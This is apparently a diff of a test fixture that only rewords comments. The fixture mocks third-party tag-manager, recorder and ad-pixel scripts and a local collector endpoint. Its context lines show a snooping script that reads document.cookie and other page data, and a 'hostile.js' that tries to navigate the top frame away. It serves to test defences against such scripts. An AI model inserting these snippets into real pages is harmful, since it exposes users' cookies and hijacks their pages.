@@ -11,8 +11,8 @@ const BYTES_MAX = 200_000
 const SLOW_MS = 60_000
 
 /**
- * The stand-in of whoever collects: scripts of a tag manager, a recorder and an ad pixel that send on everything
- * they can find, and a receiver of error reports. `GET /collector/hits` lists what it was sent.
+ * The stand-in of third parties: scripts of a tag manager, a recorder and an ad pixel that send everything
+ * they can find, and a receiver of error reports. `GET /collector/hits` lists what it received.
  */
 export function createCollector() {
   const hits: Hit[] = []
@@ -57,7 +57,7 @@ function answer(body: string, type: string): Response {
   })
 }
 
-/** What a curious script would send along: whatever of the page it can read. */
+/** What a curious script would collect: everything of the page that it can read. */
 const SNOOP = `const found = {}
 for (const [name, read] of Object.entries({
   cookie: () => document.cookie,
@@ -92,7 +92,7 @@ const look = () => {
 setInterval(look, 500)
 }`,
   'slow.js': '',
-  // Tries to take the page over and to stop whoever reads it.
+  // Tries to take over the page and to navigate it away.
   'hostile.js': `{${SNOOP}
 for (const attack of [
   () => { top.location = 'about:blank' },
